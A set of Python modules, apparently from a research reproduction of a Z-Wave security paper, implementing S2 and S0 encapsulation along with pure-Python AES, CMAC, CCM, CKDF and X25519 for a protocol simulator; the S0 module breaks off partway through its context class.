"""Security 2 (S2) transport encapsulation.

S2 "employs ECDH for secure key derivation and AES-128-CMAC for integrity"
(Section II-A1).  The reproduction implements the pieces the paper's attack
surface depends on:

* Curve25519 key agreement during inclusion (:class:`S2Bootstrap`),
* the SPAN (singlecast pre-agreed nonce) state machine seeded by a
  nonce-report exchange, and
* AES-CCM message encapsulation binding the clear MAC-header fields as
  additional authenticated data.

Crucially for the paper: **only the application payload is encrypted** —
home ID, source and destination travel in the clear, which is what lets
ZCover's passive scanner fingerprint an S2 network (Section III-B1), and a
receiver decides *per command class* whether to require encapsulation,
which is the specification flaw behind the CMDCL 0x01 attacks.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Dict, Optional, Tuple

from ..errors import AuthenticationError, NonceError
from .ccm import NONCE_LENGTH, ccm_decrypt, ccm_encrypt
from .cmac import aes_cmac
from .curve25519 import public_key, shared_secret
from .kdf import ExpandedKeys, ckdf_expand, ckdf_temp_extract

#: S2 command class and commands carried inside command class 0x9F.
S2_CMDCL = 0x9F
CMD_NONCE_GET = 0x01
CMD_NONCE_REPORT = 0x02
CMD_MESSAGE_ENCAPSULATION = 0x03

#: Nonce-report flag: sender requests SPAN resynchronisation.
FLAG_SOS = 0x01

ENTROPY_SIZE = 16


#: Extension flag: a 16-byte SPAN extension (sender entropy) follows the
#: extensions byte.  A receiver that missed the handshake uses it to seed
#: its inbound SPAN.
EXT_SPAN = 0x01


@dataclass(frozen=True)
class S2Encapsulated:
    """A parsed S2 message-encapsulation body.

    Wire layout: ``seq | ext | [16-byte SPAN extension if ext & 0x01] |
    ciphertext || tag``.
    """

    seq_no: int
    extensions: int
    blob: bytes
    span_extension: bytes = b""

    def encode(self) -> bytes:
        return bytes([self.seq_no, self.extensions]) + self.span_extension + self.blob

    @classmethod
    def decode(cls, body: bytes) -> "S2Encapsulated":
        if len(body) < 2:
            raise AuthenticationError("S2 encapsulation body too short")
        seq_no, extensions = body[0], body[1]
        rest = body[2:]
        span_extension = b""
        if extensions & EXT_SPAN:
            if len(rest) < ENTROPY_SIZE:
                raise AuthenticationError("S2 SPAN extension truncated")
            span_extension, rest = rest[:ENTROPY_SIZE], rest[ENTROPY_SIZE:]
        return cls(
            seq_no=seq_no,
            extensions=extensions,
            blob=rest,
            span_extension=span_extension,
        )


class SpanState:
    """The pre-agreed nonce generator shared by one (sender, receiver) pair.

    Both ends mix their 16-byte entropy inputs through CMAC and then draw
    per-message nonces deterministically: ``nonce_i = CMAC(K_ps, MEI | i)``
    truncated to the 13-byte CCM nonce.  Identical state on both ends means
    no nonce ever travels with the message — an eavesdropper who missed the
    handshake cannot decrypt.
    """

    def __init__(self, personalization: bytes, sender_entropy: bytes, receiver_entropy: bytes):
        if len(sender_entropy) != ENTROPY_SIZE or len(receiver_entropy) != ENTROPY_SIZE:
            raise NonceError("SPAN entropy inputs must be 16 bytes")
        self._mei = aes_cmac(personalization, sender_entropy + receiver_entropy)
        self._counter = 0

    @property
    def counter(self) -> int:
        return self._counter

    def next_nonce(self) -> bytes:
        """Draw the next 13-byte CCM nonce, advancing the state."""
        block = aes_cmac(self._mei, self._counter.to_bytes(4, "big"))
        self._counter += 1
        return block[:NONCE_LENGTH]

    def peek_nonce(self, offset: int = 0) -> bytes:
        """Compute a future nonce without advancing (receiver-side window)."""
        block = aes_cmac(self._mei, (self._counter + offset).to_bytes(4, "big"))
        return block[:NONCE_LENGTH]

    def advance(self, count: int) -> None:
        """Skip *count* nonces (after a successful out-of-order decrypt)."""
        self._counter += count


class S2Context:
    """Per-device S2 state: expanded keys plus per-peer SPAN states."""

    #: How far ahead a receiver searches for a matching nonce before
    #: declaring desynchronisation.
    SPAN_WINDOW = 5

    def __init__(self, network_key: bytes, node_id: int, rng: Optional[random.Random] = None):
        self._keys: ExpandedKeys = ckdf_expand(network_key)
        self._node_id = node_id
        self._rng = rng or random.Random(0)
        self._spans: Dict[Tuple[int, int], SpanState] = {}
        self._pending_entropy: Dict[int, bytes] = {}
        self._seq = 0

    # -- handshake --------------------------------------------------------------

    def generate_entropy(self, peer: int) -> bytes:
        """Create and remember the local entropy half for *peer*."""
        entropy = bytes(self._rng.randrange(256) for _ in range(ENTROPY_SIZE))
        self._pending_entropy[peer] = entropy
        return entropy

    def establish_span(self, peer: int, sender_entropy: bytes, receiver_entropy: bytes, inbound: bool) -> None:
        """Instantiate the SPAN for traffic with *peer*.

        ``inbound=True`` registers the state used to *receive* from the
        peer; ``inbound=False`` the state used to *send*.
        """
        key = (peer, 0 if inbound else 1)
        self._spans[key] = SpanState(
            self._keys.nonce_personalization, sender_entropy, receiver_entropy
        )

    def has_span(self, peer: int, inbound: bool) -> bool:
        return (peer, 0 if inbound else 1) in self._spans

    def pending_entropy(self, peer: int) -> Optional[bytes]:
        return self._pending_entropy.get(peer)

    def reset_spans(self) -> None:
        """Drop all SPAN state (e.g. on device reset)."""
        self._spans.clear()
        self._pending_entropy.clear()

    # -- encapsulation ------------------------------------------------------------

    def _aad(self, src: int, dst: int, home_id: int, seq_no: int, length: int) -> bytes:
        return bytes([src, dst]) + home_id.to_bytes(4, "big") + bytes([seq_no, length & 0xFF])

    def encapsulate(self, plaintext: bytes, peer: int, src: int, dst: int, home_id: int) -> S2Encapsulated:
        """Encrypt *plaintext* toward *peer* under the outbound SPAN."""
        span = self._spans.get((peer, 1))
        if span is None:
            raise NonceError(f"no outbound SPAN established with node {peer}")
        seq_no = self._seq
        self._seq = (self._seq + 1) % 256
        nonce = span.next_nonce()
        aad = self._aad(src, dst, home_id, seq_no, len(plaintext))
        blob = ccm_encrypt(self._keys.ccm_key, nonce, aad, plaintext)
        return S2Encapsulated(seq_no=seq_no, extensions=0, blob=blob)

    def decapsulate(self, encap: S2Encapsulated, peer: int, src: int, dst: int, home_id: int) -> bytes:
        """Verify and decrypt an encapsulation from *peer*.

        Searches a small nonce window to tolerate lost frames; raises
        :class:`NonceError` on desynchronisation (the sender must then
        resynchronise through a nonce-report exchange).
        """
        span = self._spans.get((peer, 0))
        if span is None:
            raise NonceError(f"no inbound SPAN established with node {peer}")
        payload_len = len(encap.blob) - 8
        aad = self._aad(src, dst, home_id, encap.seq_no, max(payload_len, 0))
        for offset in range(self.SPAN_WINDOW):
            nonce = span.peek_nonce(offset)
            try:
                plaintext = ccm_decrypt(self._keys.ccm_key, nonce, aad, encap.blob)
            except AuthenticationError:
                continue
            span.advance(offset + 1)
            return plaintext
        raise NonceError("S2 SPAN desynchronised: no nonce in the window verified")


class S2Bootstrap:
    """The ECDH half of S2 inclusion: exchange public keys, derive keys.

    The DSK authentication pin (the first 16 bits of the joining node's
    public key, printed on the label) is modelled so the examples can show
    the full inclusion ceremony.
    """

    def __init__(self, rng: Optional[random.Random] = None):
        self._rng = rng or random.Random(0)
        self._private = bytes(self._rng.randrange(256) for _ in range(32))
        self.public = public_key(self._private)

    @property
    def dsk_pin(self) -> int:
        """The 5-digit DSK authentication pin derived from the public key."""
        return int.from_bytes(self.public[:2], "big")

    def derive_temp_key(self, peer_public: bytes, initiator: bool) -> bytes:
        """Derive the 16-byte temporary inclusion key from the exchange."""
        secret = shared_secret(self._private, peer_public)
        if initiator:
            prk = ckdf_temp_extract(secret, self.public, peer_public)
        else:
            prk = ckdf_temp_extract(secret, peer_public, self.public)
        return prk


def generate_network_key(rng: Optional[random.Random] = None) -> bytes:
    """Generate a random 16-byte S2 network key."""
    rng = rng or random.Random(0)
    return bytes(rng.randrange(256) for _ in range(16))
