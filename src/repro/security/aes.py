"""Pure-Python AES-128 block cipher (FIPS-197).

Z-Wave's S0 and S2 transports are built entirely on AES-128 (AES-OFB for S0
payload encryption, AES-CMAC for S2 integrity, AES-CCM for S2 payload
protection, AES-CTR inside the key-derivation function).  No third-party
crypto package is assumed, so the block cipher is implemented here from the
standard; it is validated against the FIPS-197 appendix vectors in the test
suite.

The implementation favours clarity over speed — the simulator exchanges a
few hundred thousand small frames at most, well within reach of a table
-driven pure-Python cipher.
"""

from __future__ import annotations

from typing import List

from ..errors import CryptoError

BLOCK_SIZE = 16
KEY_SIZE = 16
ROUNDS = 10

# -- tables -------------------------------------------------------------------


def _build_sbox() -> tuple:
    """Construct the AES S-box from the finite-field definition."""
    # Multiplicative inverses in GF(2^8) via exponentiation tables on the
    # generator 3.
    exp = [0] * 512
    log = [0] * 256
    x = 1
    for i in range(255):
        exp[i] = x
        log[x] = i
        x ^= (x << 1) ^ (0x11B if x & 0x80 else 0)
        x &= 0xFF
    for i in range(255, 512):
        exp[i] = exp[i - 255]

    def inverse(b: int) -> int:
        return 0 if b == 0 else exp[255 - log[b]]

    sbox = []
    for value in range(256):
        b = inverse(value)
        s = b
        for _ in range(4):
            b = ((b << 1) | (b >> 7)) & 0xFF
            s ^= b
        sbox.append(s ^ 0x63)
    return tuple(sbox)


SBOX = _build_sbox()
INV_SBOX = tuple(SBOX.index(i) for i in range(256))

RCON = (0x01, 0x02, 0x04, 0x08, 0x10, 0x20, 0x40, 0x80, 0x1B, 0x36)


def _xtime(value: int) -> int:
    """Multiply by x (i.e. 2) in GF(2^8)."""
    value <<= 1
    if value & 0x100:
        value ^= 0x11B
    return value & 0xFF


def _mul(a: int, b: int) -> int:
    """Multiply two field elements in GF(2^8)."""
    result = 0
    while b:
        if b & 1:
            result ^= a
        a = _xtime(a)
        b >>= 1
    return result


# -- key schedule --------------------------------------------------------------


def expand_key(key: bytes) -> List[List[int]]:
    """Expand a 16-byte key into the 11 round keys (as 16-byte lists)."""
    if len(key) != KEY_SIZE:
        raise CryptoError(f"AES-128 requires a 16-byte key, got {len(key)}")
    words: List[List[int]] = [list(key[i : i + 4]) for i in range(0, 16, 4)]
    for i in range(4, 4 * (ROUNDS + 1)):
        temp = list(words[i - 1])
        if i % 4 == 0:
            temp = temp[1:] + temp[:1]
            temp = [SBOX[b] for b in temp]
            temp[0] ^= RCON[i // 4 - 1]
        words.append([a ^ b for a, b in zip(words[i - 4], temp)])
    round_keys = []
    for r in range(ROUNDS + 1):
        rk: List[int] = []
        for w in words[4 * r : 4 * r + 4]:
            rk.extend(w)
        round_keys.append(rk)
    return round_keys


# -- round operations ----------------------------------------------------------


def _add_round_key(state: List[int], round_key: List[int]) -> None:
    for i in range(16):
        state[i] ^= round_key[i]


def _sub_bytes(state: List[int]) -> None:
    for i in range(16):
        state[i] = SBOX[state[i]]


def _inv_sub_bytes(state: List[int]) -> None:
    for i in range(16):
        state[i] = INV_SBOX[state[i]]


# State is kept column-major (byte i belongs to row i % 4, column i // 4),
# matching the FIPS-197 byte ordering of the input block.


def _shift_rows(state: List[int]) -> None:
    for row in range(1, 4):
        column_values = [state[row + 4 * col] for col in range(4)]
        shifted = column_values[row:] + column_values[:row]
        for col in range(4):
            state[row + 4 * col] = shifted[col]


def _inv_shift_rows(state: List[int]) -> None:
    for row in range(1, 4):
        column_values = [state[row + 4 * col] for col in range(4)]
        shifted = column_values[-row:] + column_values[:-row]
        for col in range(4):
            state[row + 4 * col] = shifted[col]


def _mix_columns(state: List[int]) -> None:
    for col in range(4):
        a = state[4 * col : 4 * col + 4]
        state[4 * col + 0] = _mul(a[0], 2) ^ _mul(a[1], 3) ^ a[2] ^ a[3]
        state[4 * col + 1] = a[0] ^ _mul(a[1], 2) ^ _mul(a[2], 3) ^ a[3]
        state[4 * col + 2] = a[0] ^ a[1] ^ _mul(a[2], 2) ^ _mul(a[3], 3)
        state[4 * col + 3] = _mul(a[0], 3) ^ a[1] ^ a[2] ^ _mul(a[3], 2)


def _inv_mix_columns(state: List[int]) -> None:
    for col in range(4):
        a = state[4 * col : 4 * col + 4]
        state[4 * col + 0] = _mul(a[0], 14) ^ _mul(a[1], 11) ^ _mul(a[2], 13) ^ _mul(a[3], 9)
        state[4 * col + 1] = _mul(a[0], 9) ^ _mul(a[1], 14) ^ _mul(a[2], 11) ^ _mul(a[3], 13)
        state[4 * col + 2] = _mul(a[0], 13) ^ _mul(a[1], 9) ^ _mul(a[2], 14) ^ _mul(a[3], 11)
        state[4 * col + 3] = _mul(a[0], 11) ^ _mul(a[1], 13) ^ _mul(a[2], 9) ^ _mul(a[3], 14)


# -- public API -----------------------------------------------------------------


class AES128:
    """AES-128 with a pre-expanded key schedule."""

    def __init__(self, key: bytes):
        self._round_keys = expand_key(key)

    def encrypt_block(self, block: bytes) -> bytes:
        """Encrypt one 16-byte block."""
        if len(block) != BLOCK_SIZE:
            raise CryptoError(f"AES block must be 16 bytes, got {len(block)}")
        state = list(block)
        _add_round_key(state, self._round_keys[0])
        for r in range(1, ROUNDS):
            _sub_bytes(state)
            _shift_rows(state)
            _mix_columns(state)
            _add_round_key(state, self._round_keys[r])
        _sub_bytes(state)
        _shift_rows(state)
        _add_round_key(state, self._round_keys[ROUNDS])
        return bytes(state)

    def decrypt_block(self, block: bytes) -> bytes:
        """Decrypt one 16-byte block."""
        if len(block) != BLOCK_SIZE:
            raise CryptoError(f"AES block must be 16 bytes, got {len(block)}")
        state = list(block)
        _add_round_key(state, self._round_keys[ROUNDS])
        for r in range(ROUNDS - 1, 0, -1):
            _inv_shift_rows(state)
            _inv_sub_bytes(state)
            _add_round_key(state, self._round_keys[r])
            _inv_mix_columns(state)
        _inv_shift_rows(state)
        _inv_sub_bytes(state)
        _add_round_key(state, self._round_keys[0])
        return bytes(state)

    # -- modes of operation ----------------------------------------------------

    def encrypt_ofb(self, iv: bytes, data: bytes) -> bytes:
        """AES-OFB keystream encryption (S0 payload protection).

        OFB is symmetric: applying it twice with the same IV recovers the
        plaintext, so this method also decrypts.
        """
        if len(iv) != BLOCK_SIZE:
            raise CryptoError(f"OFB IV must be 16 bytes, got {len(iv)}")
        out = bytearray()
        feedback = iv
        for offset in range(0, len(data), BLOCK_SIZE):
            feedback = self.encrypt_block(feedback)
            chunk = data[offset : offset + BLOCK_SIZE]
            out += bytes(c ^ k for c, k in zip(chunk, feedback))
        return bytes(out)

    decrypt_ofb = encrypt_ofb

    def encrypt_ctr(self, nonce: bytes, data: bytes) -> bytes:
        """AES-CTR keystream encryption over a 16-byte initial counter."""
        if len(nonce) != BLOCK_SIZE:
            raise CryptoError(f"CTR nonce must be 16 bytes, got {len(nonce)}")
        out = bytearray()
        counter = int.from_bytes(nonce, "big")
        for offset in range(0, len(data), BLOCK_SIZE):
            keystream = self.encrypt_block(counter.to_bytes(16, "big"))
            chunk = data[offset : offset + BLOCK_SIZE]
            out += bytes(c ^ k for c, k in zip(chunk, keystream))
            counter = (counter + 1) % (1 << 128)
        return bytes(out)

    decrypt_ctr = encrypt_ctr

    def cbc_mac(self, data: bytes) -> bytes:
        """Raw CBC-MAC over zero-padded *data* (building block for S0 auth)."""
        mac = bytes(BLOCK_SIZE)
        padded = data + bytes(-len(data) % BLOCK_SIZE)
        for offset in range(0, len(padded), BLOCK_SIZE):
            block = padded[offset : offset + BLOCK_SIZE]
            mac = self.encrypt_block(bytes(m ^ b for m, b in zip(mac, block)))
        return mac
