"""CKDF — the CMAC-based key derivation used by Z-Wave S2.

S2 expands the ECDH shared secret into the temporary key during inclusion
and expands each 16-byte network key into the triplet used on the wire:

* the CCM encryption key,
* the personalisation string for the SPAN nonce generator, and
* the MPAN key for multicast.

The construction follows the S2 specification's CKDF-TempExtract /
CKDF-Expand shape: AES-CMAC under fixed-constant messages, making every
derived key a deterministic function of its parent.
"""

from __future__ import annotations

from dataclasses import dataclass

from ..errors import CryptoError
from .cmac import aes_cmac

#: Constants from the S2 key-derivation schedule.
_TEMP_EXTRACT_CONST = b"\x33" * 16
_CCM_KEY_CONST = b"\x88"
_NONCE_PS_CONST = b"\x88"
_MPAN_CONST = b"\x88"

#: Derivations are deterministic functions of the network key, and a
#: campaign batch builds hundreds of fresh SUTs over the same handful of
#: keys — memoising the (pure-Python, slow) AES-CMAC schedules turns every
#: rebuild after the first into a dictionary hit.  Bounded so adversarial
#: key churn cannot grow the process.
_EXPAND_CACHE: dict = {}
_S0_CACHE: dict = {}
_KDF_CACHE_MAX = 64


def ckdf_temp_extract(shared_secret: bytes, pub_a: bytes, pub_b: bytes) -> bytes:
    """Extract the temporary inclusion key from an ECDH exchange.

    ``PRK = CMAC(Const33, ECDH_secret | pub_a | pub_b)`` — binding the key
    to both public keys defeats unknown-key-share substitution.
    """
    if len(shared_secret) != 32:
        raise CryptoError("ECDH shared secret must be 32 bytes")
    return aes_cmac(_TEMP_EXTRACT_CONST, shared_secret + pub_a + pub_b)


@dataclass(frozen=True)
class ExpandedKeys:
    """The wire keys derived from one 16-byte network key."""

    ccm_key: bytes
    nonce_personalization: bytes
    mpan_key: bytes


def ckdf_expand(network_key: bytes) -> ExpandedKeys:
    """Expand a network key into its CCM / nonce / MPAN components."""
    if len(network_key) != 16:
        raise CryptoError(f"network key must be 16 bytes, got {len(network_key)}")
    key = bytes(network_key)
    cached = _EXPAND_CACHE.get(key)
    if cached is not None:
        return cached
    t1 = aes_cmac(key, _CCM_KEY_CONST + b"\x00" * 14 + b"\x01")
    t2 = aes_cmac(key, t1 + _NONCE_PS_CONST + b"\x00" * 14 + b"\x02")
    t3 = aes_cmac(key, t2 + _MPAN_CONST + b"\x00" * 14 + b"\x03")
    expanded = ExpandedKeys(ccm_key=t1, nonce_personalization=t2, mpan_key=t3)
    if len(_EXPAND_CACHE) < _KDF_CACHE_MAX:
        _EXPAND_CACHE[key] = expanded
    return expanded


def derive_s0_keys(network_key: bytes) -> tuple:
    """Derive the S0 (encryption, authentication) key pair.

    S0 derives its two working keys by encrypting fixed 16-byte patterns
    under the network key; modelled here with CMAC for uniformity.
    """
    if len(network_key) != 16:
        raise CryptoError(f"network key must be 16 bytes, got {len(network_key)}")
    key = bytes(network_key)
    cached = _S0_CACHE.get(key)
    if cached is not None:
        return cached
    derived = (aes_cmac(key, b"\xaa" * 16), aes_cmac(key, b"\x55" * 16))
    if len(_S0_CACHE) < _KDF_CACHE_MAX:
        _S0_CACHE[key] = derived
    return derived
