"""AES-CMAC (RFC 4493) — the integrity primitive of Z-Wave Security 2.

S2 "employs ECDH for secure key derivation and AES-128-CMAC for integrity"
(Section II-A1).  The same primitive also drives the CKDF key-derivation
function in :mod:`repro.security.kdf`.
"""

from __future__ import annotations

from ..errors import CryptoError
from .aes import AES128, BLOCK_SIZE

_RB = 0x87  # The GF(2^128) reduction constant of RFC 4493.


def _left_shift(block: bytes) -> bytes:
    """Shift a 16-byte block left by one bit."""
    value = int.from_bytes(block, "big")
    value = (value << 1) & ((1 << 128) - 1)
    return value.to_bytes(16, "big")


def _generate_subkeys(cipher: AES128) -> tuple:
    """Derive the K1/K2 subkeys from the zero block."""
    l_value = cipher.encrypt_block(bytes(BLOCK_SIZE))
    k1 = _left_shift(l_value)
    if l_value[0] & 0x80:
        k1 = k1[:-1] + bytes([k1[-1] ^ _RB])
    k2 = _left_shift(k1)
    if k1[0] & 0x80:
        k2 = k2[:-1] + bytes([k2[-1] ^ _RB])
    return k1, k2


def aes_cmac(key: bytes, message: bytes) -> bytes:
    """Compute the 16-byte AES-CMAC tag of *message* under *key*."""
    cipher = AES128(key)
    k1, k2 = _generate_subkeys(cipher)
    n_blocks = max(1, (len(message) + BLOCK_SIZE - 1) // BLOCK_SIZE)
    complete = len(message) > 0 and len(message) % BLOCK_SIZE == 0
    if complete:
        last = bytes(
            m ^ k for m, k in zip(message[(n_blocks - 1) * BLOCK_SIZE :], k1)
        )
    else:
        tail = message[(n_blocks - 1) * BLOCK_SIZE :]
        padded = tail + b"\x80" + bytes(BLOCK_SIZE - len(tail) - 1)
        last = bytes(m ^ k for m, k in zip(padded, k2))
    mac = bytes(BLOCK_SIZE)
    for i in range(n_blocks - 1):
        block = message[i * BLOCK_SIZE : (i + 1) * BLOCK_SIZE]
        mac = cipher.encrypt_block(bytes(m ^ b for m, b in zip(mac, block)))
    return cipher.encrypt_block(bytes(m ^ b for m, b in zip(mac, last)))


def verify_cmac(key: bytes, message: bytes, tag: bytes, tag_length: int = 16) -> bool:
    """Constant-time-ish verification of a (possibly truncated) CMAC tag."""
    if not 1 <= tag_length <= BLOCK_SIZE:
        raise CryptoError(f"tag length {tag_length} out of range")
    expected = aes_cmac(key, message)[:tag_length]
    if len(tag) != tag_length:
        return False
    diff = 0
    for a, b in zip(expected, tag):
        diff |= a ^ b
    return diff == 0
