"""AES-CCM authenticated encryption (RFC 3610) for Z-Wave S2 payloads.

S2 protects the application payload with AES-128-CCM: CTR-mode encryption
plus a CBC-MAC tag binding the additional authenticated data (the MAC
header fields that travel in the clear — exactly why the paper's passive
scanner can still read home and node IDs from S2 traffic).
"""

from __future__ import annotations

from ..errors import AuthenticationError, CryptoError
from .aes import AES128

#: CCM parameters used by S2: 8-byte tag, 2-byte length field, 13-byte nonce.
TAG_LENGTH = 8
LENGTH_FIELD = 2
NONCE_LENGTH = 15 - LENGTH_FIELD


def _format_b0(nonce: bytes, aad_len: int, msg_len: int) -> bytes:
    """Build the B0 block heading the CBC-MAC input."""
    flags = (0x40 if aad_len else 0x00) | (((TAG_LENGTH - 2) // 2) << 3) | (LENGTH_FIELD - 1)
    return bytes([flags]) + nonce + msg_len.to_bytes(LENGTH_FIELD, "big")


def _format_aad(aad: bytes) -> bytes:
    """Length-prefix and pad the additional authenticated data."""
    if not aad:
        return b""
    if len(aad) >= 0xFF00:
        raise CryptoError("CCM additional data too long for the short encoding")
    blob = len(aad).to_bytes(2, "big") + aad
    return blob + bytes(-len(blob) % 16)


def _a_block(nonce: bytes, counter: int) -> bytes:
    """Build the CTR-mode counter block A_i."""
    return bytes([LENGTH_FIELD - 1]) + nonce + counter.to_bytes(LENGTH_FIELD, "big")


def _compute_tag(cipher: AES128, nonce: bytes, aad: bytes, plaintext: bytes) -> bytes:
    """CBC-MAC over B0 | padded AAD | padded plaintext, truncated."""
    mac_input = _format_b0(nonce, len(aad), len(plaintext)) + _format_aad(aad)
    mac_input += plaintext + bytes(-len(plaintext) % 16)
    mac = bytes(16)
    for offset in range(0, len(mac_input), 16):
        block = mac_input[offset : offset + 16]
        mac = cipher.encrypt_block(bytes(m ^ b for m, b in zip(mac, block)))
    # Tag is encrypted under A_0 per RFC 3610.
    a0 = cipher.encrypt_block(_a_block(nonce, 0))
    return bytes(m ^ a for m, a in zip(mac, a0))[:TAG_LENGTH]


def _ctr_crypt(cipher: AES128, nonce: bytes, data: bytes) -> bytes:
    """CTR keystream starting at counter 1 (counter 0 encrypts the tag)."""
    out = bytearray()
    counter = 1
    for offset in range(0, len(data), 16):
        keystream = cipher.encrypt_block(_a_block(nonce, counter))
        chunk = data[offset : offset + 16]
        out += bytes(c ^ k for c, k in zip(chunk, keystream))
        counter += 1
    return bytes(out)


def ccm_encrypt(key: bytes, nonce: bytes, aad: bytes, plaintext: bytes) -> bytes:
    """Encrypt and authenticate; returns ciphertext || 8-byte tag."""
    if len(nonce) != NONCE_LENGTH:
        raise CryptoError(f"CCM nonce must be {NONCE_LENGTH} bytes, got {len(nonce)}")
    cipher = AES128(key)
    tag = _compute_tag(cipher, nonce, aad, plaintext)
    return _ctr_crypt(cipher, nonce, plaintext) + tag


def ccm_decrypt(key: bytes, nonce: bytes, aad: bytes, blob: bytes) -> bytes:
    """Verify and decrypt ciphertext || tag; raises on a bad tag."""
    if len(nonce) != NONCE_LENGTH:
        raise CryptoError(f"CCM nonce must be {NONCE_LENGTH} bytes, got {len(nonce)}")
    if len(blob) < TAG_LENGTH:
        raise AuthenticationError("CCM blob shorter than the authentication tag")
    ciphertext, tag = blob[:-TAG_LENGTH], blob[-TAG_LENGTH:]
    cipher = AES128(key)
    plaintext = _ctr_crypt(cipher, nonce, ciphertext)
    expected = _compute_tag(cipher, nonce, aad, plaintext)
    diff = 0
    for a, b in zip(expected, tag):
        diff |= a ^ b
    if diff:
        raise AuthenticationError("CCM tag verification failed")
    return plaintext
