"""Curve25519 Diffie-Hellman (RFC 7748) for the S2 key exchange.

Z-Wave S2 bootstrapping exchanges Curve25519 public keys (the DSK printed
on the device label is derived from them) and derives the network keys from
the shared secret.  This is a straightforward pure-Python X25519 using the
Montgomery ladder; validated against the RFC 7748 test vectors.
"""

from __future__ import annotations

from ..errors import CryptoError

P = 2**255 - 19
A24 = 121665
BASE_POINT = 9

KEY_SIZE = 32


def _decode_scalar(scalar: bytes) -> int:
    """Clamp and decode a 32-byte X25519 scalar."""
    if len(scalar) != KEY_SIZE:
        raise CryptoError(f"X25519 scalar must be 32 bytes, got {len(scalar)}")
    k = bytearray(scalar)
    k[0] &= 248
    k[31] &= 127
    k[31] |= 64
    return int.from_bytes(bytes(k), "little")


def _decode_u(u: bytes) -> int:
    """Decode a 32-byte u-coordinate (masking the top bit per RFC 7748)."""
    if len(u) != KEY_SIZE:
        raise CryptoError(f"X25519 point must be 32 bytes, got {len(u)}")
    value = bytearray(u)
    value[31] &= 127
    return int.from_bytes(bytes(value), "little")


def _encode_u(value: int) -> bytes:
    return (value % P).to_bytes(KEY_SIZE, "little")


def x25519(scalar: bytes, point: bytes) -> bytes:
    """Scalar multiplication on Curve25519 (the X25519 function)."""
    k = _decode_scalar(scalar)
    u = _decode_u(point)
    x1 = u
    x2, z2 = 1, 0
    x3, z3 = u, 1
    swap = 0
    for t in range(254, -1, -1):
        bit = (k >> t) & 1
        swap ^= bit
        if swap:
            x2, x3 = x3, x2
            z2, z3 = z3, z2
        swap = bit
        a = (x2 + z2) % P
        aa = (a * a) % P
        b = (x2 - z2) % P
        bb = (b * b) % P
        e = (aa - bb) % P
        c = (x3 + z3) % P
        d = (x3 - z3) % P
        da = (d * a) % P
        cb = (c * b) % P
        x3 = pow(da + cb, 2, P)
        z3 = (x1 * pow(da - cb, 2, P)) % P
        x2 = (aa * bb) % P
        z2 = (e * (aa + A24 * e)) % P
    if swap:
        x2, x3 = x3, x2
        z2, z3 = z3, z2
    return _encode_u((x2 * pow(z2, P - 2, P)) % P)


def public_key(private: bytes) -> bytes:
    """Derive the public key for a 32-byte private scalar."""
    return x25519(private, _encode_u(BASE_POINT))


def shared_secret(private: bytes, peer_public: bytes) -> bytes:
    """Compute the ECDH shared secret; rejects the all-zero output."""
    secret = x25519(private, peer_public)
    if secret == bytes(KEY_SIZE):
        raise CryptoError("X25519 produced the all-zero shared secret")
    return secret
