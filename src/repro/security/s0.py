"""Security 0 (S0) transport encapsulation.

S0 "uses AES-128 encryption but is susceptible to MITM attacks due to a
fixed temporary key during key exchange" (Section II-A1).  The working
scheme, reproduced here:

* the receiver hands out single-use 8-byte nonces (``NONCE_GET`` /
  ``NONCE_REPORT``),
* the sender encrypts the payload with AES-OFB under
  ``IV = sender_nonce || receiver_nonce``, and
* an 8-byte truncated CBC-MAC binds the security header and the
  source/destination addresses.

The famous S0 downgrade weakness is modelled faithfully: during inclusion
the network key itself is sent encrypted under the all-zero temporary key
(:data:`TEMP_KEY`), which is why a sniffer present at inclusion time owns
the network.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Dict, Optional

from ..errors import AuthenticationError, NonceError
from .aes import AES128
from .kdf import derive_s0_keys

#: S0 command class and commands carried inside command class 0x98.
S0_CMDCL = 0x98
CMD_NONCE_GET = 0x40
CMD_NONCE_REPORT = 0x80
CMD_MESSAGE_ENCAPSULATION = 0x81
CMD_NETWORK_KEY_SET = 0x06

#: The fixed all-zero temporary key used during S0 inclusion — the root of
#: the Fouladi & Ghanoun MITM finding the paper cites.
TEMP_KEY = bytes(16)

NONCE_SIZE = 8
MAC_SIZE = 8

#: How many outstanding nonces a receiver remembers.
NONCE_TABLE_SIZE = 8


@dataclass(frozen=True)
class S0Encapsulated:
    """A parsed S0 message-encapsulation body."""

    sender_nonce: bytes
    ciphertext: bytes
    receiver_nonce_id: int
    mac: bytes

    def encode(self) -> bytes:
        return (
            self.sender_nonce
            + self.ciphertext
            + bytes([self.receiver_nonce_id])
            + self.mac
        )

    @classmethod
    def decode(cls, body: bytes) -> "S0Encapsulated":
        if len(body) < NONCE_SIZE + 1 + MAC_SIZE:
            raise AuthenticationError("S0 encapsulation body too short")
        sender_nonce = body[:NONCE_SIZE]
        mac = body[-MAC_SIZE:]
        receiver_nonce_id = body[-MAC_SIZE - 1]
        ciphertext = body[NONCE_SIZE : -MAC_SIZE - 1]
        return cls(sender_nonce, ciphertext, receiver_nonce_id, mac)


class S0Context:
    """Per-device S0 state: keys plus the outstanding-nonce table."""

    def __init__(self, network_key: bytes, rng: Optional[random.Random] = None):
        self._enc_key, self._auth_key = derive_s0_keys(network_key)
        self._cipher = AES128(self._enc_key)
        self._auth = AES128(self._auth_key)
        self._rng = rng or random.Random(0)
        self._issued: Dict[int, bytes] = {}

    # -- nonce management -----------------------------------------------------

    def issue_nonce(self) -> bytes:
        """Generate, remember and return a fresh receiver nonce."""
        nonce = bytes(self._rng.randrange(256) for _ in range(NONCE_SIZE))
        if len(self._issued) >= NONCE_TABLE_SIZE:
            oldest = next(iter(self._issued))
            del self._issued[oldest]
        self._issued[nonce[0]] = nonce
        return nonce

    def consume_nonce(self, nonce_id: int) -> bytes:
        """Return and forget the outstanding nonce with first byte *nonce_id*."""
        nonce = self._issued.pop(nonce_id, None)
        if nonce is None:
            raise NonceError(f"no outstanding S0 nonce with id {nonce_id:#04x}")
        return nonce

    @property
    def outstanding_nonces(self) -> int:
        return len(self._issued)

    # -- encapsulation ----------------------------------------------------------

    def _mac(self, header: bytes, sender_nonce: bytes, receiver_nonce: bytes, ciphertext: bytes) -> bytes:
        iv = sender_nonce + receiver_nonce
        first = self._auth.encrypt_block(iv)
        data = header + ciphertext
        padded = data + bytes(-len(data) % 16)
        mac = first
        for offset in range(0, len(padded), 16):
            block = padded[offset : offset + 16]
            mac = self._auth.encrypt_block(bytes(m ^ b for m, b in zip(mac, block)))
        return mac[:MAC_SIZE]

